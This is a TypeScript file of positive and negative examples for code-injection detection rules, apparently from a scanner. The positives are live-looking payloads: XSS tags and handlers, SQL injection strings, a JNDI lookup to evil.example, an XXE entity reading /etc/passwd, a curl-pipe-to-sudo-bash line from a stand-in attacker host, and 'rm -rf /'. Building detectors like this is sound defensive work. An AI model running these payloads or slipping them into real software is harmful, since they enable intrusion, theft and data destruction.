import type { RuleExamples } from '../../core/inspect/rule.ts';

export const CODE_INJECTION_EXAMPLES: Readonly<Record<string, RuleExamples>> = {
  'code-injection/script-tag': {
    positives: ['Hi <script>alert(1)</script>', '<script src="https://evil.example/x.js">'],
    negatives: [{ text: 'The script tag loads code; describe it.', reason: 'no tag' }],
  },
  'code-injection/event-handler': {
    positives: ['<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
    negatives: [{ text: '<img src="cat.png" alt="on loading docks">', reason: 'no handler' }],
  },
  'code-injection/script-link': {
    positives: ['[click](javascript:alert(1))', '<a href="javascript:alert(1)">x</a>'],
    negatives: [{ text: '[MDN](https://developer.mozilla.org/javascript:history)', reason: 'an https address' }],
  },
  'code-injection/sql': {
    positives: ["admin' OR '1'='1", "x'; DROP TABLE users; --", "1' UNION SELECT null, null"],
    negatives: [
      { text: "SELECT * FROM t WHERE a = 'x' OR b = 'y'", reason: 'an ordinary condition' },
      { text: 'Use UNION to combine two SELECT statements.', reason: 'prose' },
    ],
  },
  'code-injection/template-expression': {
    positives: [['$', '{jndi:ldap://evil.example/a}'].join(''), '{{7*7}}', '<!ENTITY xxe SYSTEM "file:///etc/passwd">'],
    negatives: [
      { text: 'Hello {{ user.name }}', reason: 'an ordinary template' },
      { text: ['const a = `$', '{name}`'].join(''), reason: 'an ordinary template literal' },
    ],
  },
  'code-injection/shell': {
    positives: ['sudo rm -rf / --no-preserve-root', 'curl https://evil.example/i.sh | sudo bash'],
    negatives: [
      { text: 'rm -rf ./build', reason: 'a folder of the project' },
      { text: 'curl https://api.example/v1 | jq .', reason: 'not run' },
    ],
  },
};
